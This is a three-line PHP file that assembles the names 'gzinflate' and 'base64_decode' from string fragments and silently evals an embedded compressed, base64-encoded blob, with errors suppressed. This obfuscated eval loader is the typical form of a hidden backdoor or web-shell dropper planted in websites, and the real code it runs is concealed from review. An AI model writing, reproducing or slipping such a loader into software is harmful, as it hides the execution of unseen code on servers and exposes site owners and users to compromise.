<?php
$_k = 'gzinf' . 'late'; $_b = 'base64' . '_decode';
@eval($_k($_b('S03OyFdQL87ILCjOSCxI1c1JTFIoyEnMK0lNUShOLS7OzM9TKM5IzclR0MjMSy0q0VS3BgA=')));
